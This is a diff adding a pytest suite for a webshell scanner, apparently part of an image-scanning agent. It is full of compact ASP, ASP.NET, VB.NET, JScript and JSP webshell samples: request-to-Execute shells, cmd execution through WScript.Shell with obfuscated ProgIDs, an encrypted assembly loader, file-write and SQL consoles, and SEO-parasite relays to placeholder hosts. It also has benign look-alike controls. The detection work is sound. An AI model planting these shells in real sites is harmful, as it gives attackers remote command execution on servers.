@@ -1,0 +1,323 @@
+"""Near variants of the classic ASP and ASP.NET behaviours the reader knows: every Request collection,
+every Execute/Eval spelling, CreateObject with split or built ProgIDs, WScript.Shell and
+Shell.Application, ScriptControl, ADODB.Stream/FSO writes, ADODB consoles, JScript eval, and in
+ASP.NET Process/ProcessStartInfo, Assembly.Load, CodeDom, reflection with built names, COM by ProgID,
+PowerShell, File.WriteAllBytes and SQL consoles, so a shell is caught by what it does. Benign
+look-alikes (an upload class writing under Server.MapPath, a database page with request values in its
+own SQL, an admin page with a fixed command) stay below the threshold. Every sample is written here."""
+
+import pytest
+
+from agent.imagegate import webshell
+from agent.imagegate.webshell import THRESHOLD
+
+
+def hits(text, name):
+    return webshell.scan(name, text.encode())
+
+
+def assert_shell(text, name="x.asp"):
+    hs = hits(text, name)
+    assert webshell.is_shell(hs), hs
+    h = hs[0]
+    assert h.confidence >= THRESHOLD and h.snippet and len(h.snippet) <= 240
+    return h
+
+
+def assert_benign(text, name="x.asp"):
+    hs = hits(text, name)
+    assert not webshell.is_shell(hs), hs
+
+
+# --- classic ASP, VBScript -------------------------------------------------------------------------
+
+VB_SOURCES = {
+    "bare": 'Request("c")',
+    "form": 'Request.Form("c")',
+    "query": 'Request.QueryString("c")',
+    "item": 'Request.Item("c")',
+    "cookie": 'Request.Cookies("c")',
+    "header": 'Request.ServerVariables("HTTP_X_CMD")',
+    "form-item": 'Request.Form.Item("c")',
+    "form-index": "Request.Form(1)",
+    "binary": "BytesToStr(Request.BinaryRead(Request.TotalBytes))",
+    "trimmed": 'Trim(CStr(Request("c")))',
+    "unescaped": 'Unescape(Request("c"))',
+}
+
+VB_SINKS = {
+    "execute": "Execute x",
+    "execute-paren": "Execute(x)",
+    "executeglobal": "ExecuteGlobal x",
+    "eval": "Eval(x)",
+    "eval-call": "Call Eval(x)",
+    "wsh-run": 'Set o = Server.CreateObject("WScript.Shell")\no.Run "cmd /c " & x, 0, True',
+    "wsh-exec": 'Set o = CreateObject("WScript.Shell")\nResponse.Write o.Exec("cmd /c " & x).StdOut.ReadAll',
+    "wsh-split": 'Set o = Server.CreateObject("WScr" & "ipt.She" & "ll")\no.Run x',
+    "wsh-chr": 'Set o = CreateObject(Chr(87) & "Script." & Chr(83) & "hell")\no.Exec(x)',
+    "wsh-reversed": 'Set o = CreateObject(StrReverse("llehS.tpircSW"))\no.Run x',
+    "shell-app": 'Set o = CreateObject("Shell.Application")\no.ShellExecute "cmd.exe", "/c " & x, "", "open", 0',
+    "script-control": 'Set o = CreateObject("MSScriptControl.ScriptControl")\no.Language = "VBScript"\no.AddCode x',
+    "script-control-eval": 'Set o = CreateObject("ScriptControl")\no.Language = "JScript"\nResponse.Write o.Eval(x)',
+    "wmi": 'Set o = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\no.Create x, Null, Null, pid',
+}
+
+
+@pytest.mark.parametrize("src", sorted(VB_SOURCES))
+def test_every_vbscript_source_reaches_execute(src):
+    assert_shell(f"<%\nx = {VB_SOURCES[src]}\nExecute x\n%>")
+
+
+@pytest.mark.parametrize("sink", sorted(VB_SINKS))
+def test_every_vbscript_sink_spelling(sink):
+    assert_shell(f'<%\nx = Request.Form("c")\n{VB_SINKS[sink]}\n%>')
+
+
+@pytest.mark.parametrize("sink", ["execute", "wsh-run", "shell-app"])
+def test_vbscript_sinks_in_a_server_script_block(sink):
+    body = VB_SINKS[sink]
+    assert_shell(f'<script runat="server" language="vbscript">\nx = Request("c")\n{body}\n</script>')
+
+
+def test_execute_through_the_session():
+    assert_shell('<%\nIf Request("c") <> "" Then Session("k") = Request("c")\nExecute Session("k")\n%>')
+
+
+def test_execute_through_an_own_function():
+    assert_shell("<%\nFunction Run(s)\n  ExecuteGlobal s\nEnd Function\nRun Request.Form(\"c\")\n%>")
+
+
+def test_execute_colon_separated():
+    assert_shell('<%x=request("c"):execute(x)%>')
+
+
+def test_adodb_stream_writes_the_request_body():
+    assert_shell('<%\nSet st = Server.CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open\n'
+                 "st.Write Request.BinaryRead(Request.TotalBytes)\n"
+                 "st.SaveToFile Request.QueryString(\"f\"), 2\nst.Close\n%>")
+
+
+def test_fso_writes_a_request_page():
+    assert_shell('<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\n'
+                 'Set f = fso.CreateTextFile(Request.Form("path"), True)\nf.Write Request.Form("body")\n'
+                 "f.Close\n%>")
+
+
+def test_adodb_sql_console():
+    assert_shell('<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Request.Form("conn")\n'
+                 'Set rs = conn.Execute(Request.Form("sql"))\nDo While Not rs.EOF\n'
+                 "Response.Write rs(0)\nrs.MoveNext\nLoop\n%>")
+
+
+JS_SINKS = {
+    "eval": "eval(x);",
+    "eval-unsafe": 'eval(x, "unsafe");',
+    "function": "new Function(x)();",
+    "wsh": 'var o = Server.CreateObject("WScript.Shell"); o.Run("cmd /c " + x);',
+    "wsh-split": 'var o = new ActiveXObject("WScript." + "Shell"); o.Exec(x);',
+}
+
+
+@pytest.mark.parametrize("sink", sorted(JS_SINKS))
+@pytest.mark.parametrize("src", ['Request("c")', 'Request.Form("c")', 'Request.Item["c"]', 'String(Request.QueryString("c"))'])
+def test_jscript_asp(sink, src):
+    assert_shell(f'<%@ Language="JScript" %><% var x = {src}; {JS_SINKS[sink]} %>')
+
+
+# --- ASP.NET, C# ---------------------------------------------------------------------------------------
+
+CS_SOURCES = {
+    "index": 'Request["c"]',
+    "form": 'Request.Form["c"]',
+    "query": 'Request.QueryString["c"]',
+    "params": 'Request.Params["c"]',
+    "header": 'Request.Headers["X-Cmd"]',
+    "cookie": 'Request.Cookies["c"].Value',
+    "context": 'HttpContext.Current.Request.Form["c"]',
+    "page": 'Page.Request.Item["c"]',
+    "stream": "new System.IO.StreamReader(Request.InputStream).ReadToEnd()",
+    "binary": "System.Text.Encoding.UTF8.GetString(Request.BinaryRead(Request.ContentLength))",
+    "base64": 'System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["c"]))',
+}
+
+CS_SINKS = {
+    "start": 'System.Diagnostics.Process.Start("cmd.exe", "/c " + x);',
+    "psi": 'var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + x;'
+           " psi.UseShellExecute = false; psi.RedirectStandardOutput = true;"
+           " Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());",
+    "psi-ctor": 'Process.Start(new ProcessStartInfo("cmd.exe", "/c " + x) { UseShellExecute = false });',
+    "process-obj": 'Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + x;'
+                   " p.Start();",
+    "reflect": 'Type t = Type.GetType("System.Diagnostics." + "Process"); t.GetMethod("Start", new Type[] {'
+               ' typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + x });',
+    "com": 'object sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));'
+           ' sh.GetType().InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, sh,'
+           " new object[] { x });",
+    "powershell": "System.Management.Automation.PowerShell.Create().AddScript(x).Invoke();",
+    "codedom": "var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource("
+               'new System.CodeDom.Compiler.CompilerParameters(), x); r.CompiledAssembly.CreateInstance("P");',
+    "jscript-eval": "Microsoft.JScript.Eval.JScriptEvaluate(x, Microsoft.JScript.Vsa.VsaEngine.CreateEngine());",
+    "assembly": "System.Reflection.Assembly.Load(Convert.FromBase64String(x)).CreateInstance(\"P\").Equals(this);",
+    "domain": 'AppDomain.CurrentDomain.Load(Convert.FromBase64String(x)).GetType("P").GetMethod("Run")'
+              ".Invoke(null, null);",
+    "shell": "Microsoft.VisualBasic.Interaction.Shell(x);",
+}
+
+
+@pytest.mark.parametrize("src", sorted(CS_SOURCES))
+def test_every_csharp_source_reaches_process_start(src):
+    assert_shell(f'<%@ Page Language="C#" %><% string x = {CS_SOURCES[src]};'
+                 f' System.Diagnostics.Process.Start("cmd.exe", "/c " + x); %>', "x.aspx")
+
+
+@pytest.mark.parametrize("sink", sorted(CS_SINKS))
+def test_every_csharp_sink_spelling(sink):
+    assert_shell(f'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>'
+                 f'<% string x = Request.Form["c"]; {CS_SINKS[sink]} %>', "x.aspx")
+
+
+@pytest.mark.parametrize("sink", ["start", "psi", "assembly", "codedom"])
+def test_csharp_sinks_in_a_handler(sink):
+    assert_shell('<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;'
+                 " using System.Diagnostics;\npublic class H : IHttpHandler {\n"
+                 "  public void ProcessRequest(HttpContext context) {\n"
+                 f'    string x = context.Request["c"]; var Response = context.Response; {CS_SINKS[sink]}\n'
+                 "  }\n  public bool IsReusable { get { return false; } }\n}", "x.ashx")
+
+
+@pytest.mark.parametrize("sink", ["start", "psi", "assembly"])
+def test_csharp_sinks_in_a_script_block(sink):
+    assert_shell('<%@ Page Language="C#" %><script runat="server">\nprotected void Page_Load(object s, EventArgs e) {\n'
+                 f'  string x = Request.Form["c"]; {CS_SINKS[sink]}\n}}\n</script>', "x.aspx")
+
+
+def test_razor_page():
+    assert_shell('@{ var x = Request["c"]; System.Diagnostics.Process.Start("cmd.exe", "/c " + x); }', "x.cshtml")
+
+
+def test_request_body_loaded_as_assembly():
+    assert_shell('<%@ Page Language="C#" %><% byte[] b = new byte[Request.InputStream.Length];'
+                 " Request.InputStream.Read(b, 0, b.Length);"
+                 ' System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this); %>', "x.aspx")
+
+
+def test_aes_assembly_loader():
+    assert_shell('<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k",'
+                 '"e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),'
+                 " c = Request.BinaryRead(Request.ContentLength);"
+                 " Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
+                 '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>', "x.aspx")
+
+
+def test_write_all_bytes_of_request_data():
+    assert_shell('<%@ Page Language="C#" %><% System.IO.File.WriteAllBytes(Request.Form["path"],'
+                 ' Convert.FromBase64String(Request.Form["data"])); %>', "x.aspx")
+
+
+def test_sql_console():
+    assert_shell('<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %><%'
+                 ' using (var c = new SqlConnection(Request.Form["cs"])) { c.Open();'
+                 ' var r = new SqlCommand(Request.Form["q"], c).ExecuteReader();'
+                 " while (r.Read()) Response.Write(r[0]); } %>", "x.aspx")
+
+
+def test_vbnet_page():
+    assert_shell('<%@ Page Language="VB" %><%\nDim p As New System.Diagnostics.Process()\n'
+                 'p.StartInfo.FileName = "cmd.exe"\np.StartInfo.Arguments = "/c " & Request("c")\n'
+                 "p.StartInfo.UseShellExecute = False\np.Start()\n%>", "x.aspx")
+
+
+def test_jscript_net_eval():
+    assert_shell('<%@ Page Language="Jscript" %><% var x = Request.Item["c"]; eval(x, "unsafe"); %>', "x.aspx")
+
+
+# --- benign look-alikes ---------------------------------------------------------------------------------
+
+def test_benign_asp_upload_class():
+    assert_benign('<%\nSet up = New FileUploader\nup.Upload\nFor Each f In up.Files.Items\n'
+                  '  ext = LCase(Mid(f.FileName, InStrRev(f.FileName, ".") + 1))\n'
+                  '  If ext = "jpg" Or ext = "png" Then f.SaveToDisk Server.MapPath("/uploads")\nNext\n'
+                  "Class FileUploader\n  Public Files\n  Public Sub Upload()\n"
+                  "    data = Request.BinaryRead(Request.TotalBytes)\n"
+                  '    Set st = Server.CreateObject("ADODB.Stream")\n    st.Type = 1\n    st.Open\n'
+                  "    st.Write data\n"
+                  '    st.SaveToFile Server.MapPath("/uploads/tmp.bin"), 2\n  End Sub\nEnd Class\n%>')
+
+
+def test_benign_asp_database_page():
+    assert_benign('<%\nSet conn = Server.CreateObject("ADODB.Connection")\n'
+                  'conn.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("db.mdb")\n'
+                  'id = CLng(Request.QueryString("id"))\n'
+                  'Set rs = conn.Execute("SELECT title, body FROM posts WHERE id=" & id)\n'
+                  'Response.Write Server.HTMLEncode(rs("title"))\nrs.Close\nconn.Close\n%>')
+
+
+def test_benign_asp_admin_fixed_command():
+    assert_benign('<%\nIf Session("admin") Then\n  Set o = CreateObject("WScript.Shell")\n'
+                  '  o.Run "iisreset /restart", 0, True\n  Response.Write "restarted by " & Server.HTMLEncode(Request("who"))\n'
+                  "End If\n%>")
+
+
+def test_benign_aspx_upload_control():
+    assert_benign('<%@ Page Language="C#" %><script runat="server">\nprotected void Up(object s, EventArgs e) {\n'
+                  '  var ext = System.IO.Path.GetExtension(FileUpload1.FileName).ToLower();\n'
+                  '  if (ext != ".jpg") return;\n'
+                  '  FileUpload1.SaveAs(Server.MapPath("~/App_Data/") + Guid.NewGuid() + ext);\n}\n</script>'
+                  '<asp:FileUpload id="FileUpload1" runat="server" />', "x.aspx")
+
+
+def test_benign_aspx_database_page():
+    assert_benign('<%@ Page Language="C#" %><% using (var c = new SqlConnection(ConfigurationManager'
+                  '.ConnectionStrings["db"].ConnectionString)) { c.Open(); var cmd = new SqlCommand('
+                  '"SELECT name FROM products WHERE id = @id", c); cmd.Parameters.AddWithValue("@id",'
+                  ' Request.QueryString["id"]); Response.Write(cmd.ExecuteScalar()); } %>', "x.aspx")
+
+
+def test_benign_aspx_fixed_process():
+    assert_benign('<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("ipconfig.exe");'
+                  ' Response.Write(Server.HtmlEncode(Request["name"])); %>', "x.aspx")
+
+
+# --- remote relays (SEO parasites): no sink, content from the author's host ----------------------
+
+_GETHTML = ('Function GetHtml(url)\n  Set o = Server.CreateObject("MSXML2.ServerXMLHTTP")\n  o.Open "GET", url, False\n'
+            "  o.Send\n  GetHtml = o.ResponseText\nEnd Function\n")
+
+
+def test_relay_reporting_the_site_to_a_remote_host():
+    h = assert_shell('<%\nRemote_server = "http://203.0.113.7/"\n'
+                     'host_name = "http://" & Request.ServerVariables("HTTP_HOST") & Request.ServerVariables("SCRIPT_NAME")\n'
+                     'Response.Write GetHtml(Remote_server & "index.php?host=" & host_name)\n' + _GETHTML + "%>")
+    assert h.rule == "asp.remote-relay" and h.family == "seo-parasite"
+
+
+def test_relay_for_crawlers_only_in_global_asa():
+    assert_shell('<script language="vbscript" runat="server">\nSub Session_OnStart\n'
+                 'ua = Request.ServerVariables("HTTP_USER_AGENT")\n'
+                 'If InStr(ua, "Baiduspider") > 0 Or InStr(ua, "Googlebot") > 0 Then\n'
+                 '  Response.Write GetHtml("http://parasite.example/p.php")\n  Response.End\nEnd If\nEnd Sub\n'
+                 + _GETHTML + "</script>", "global.asa")
+
+
+def test_relay_in_csharp():
+    assert_shell('<%@ Page Language="C#" %><% if (Request.UserAgent.Contains("Baiduspider")) {'
+                 ' Response.Write(new System.Net.WebClient().DownloadString("http://parasite.example/?h=" +'
+                 ' Request.Url.Host)); } %>', "x.aspx")
+
+
+def test_relay_in_jsp():
+    h = assert_shell('<% String ua = request.getHeader("user-agent"); if (ua != null && ua.contains("Baiduspider"))'
+                     ' { java.io.InputStream in = new java.net.URL("http://parasite.example/c.txt").openStream();'
+                     ' out.print(new String(in.readAllBytes(), "UTF-8")); } %>', "x.jsp")
+    assert h.rule == "jsp.remote-relay"
+
+
+def test_benign_feed_box_fetching_a_constant_url():
+    assert_benign('<%\nResponse.Write "<div class=weather>" & GetHtml("http://weather.example/api/today") & "</div>"\n'
+                  + _GETHTML + "%>")
+
+
+def test_benign_forum_sending_spam_bots_away():
+    assert_benign('<%\nagent = LCase(Request.ServerVariables("HTTP_USER_AGENT"))\n'
+                  'If InStr(agent, "spambot") > 0 Then Response.Redirect("http://" & Request.ServerVariables("REMOTE_ADDR"))\n'
+                  'strIPLookup = "http://samspade.org/whois/"\n%>')
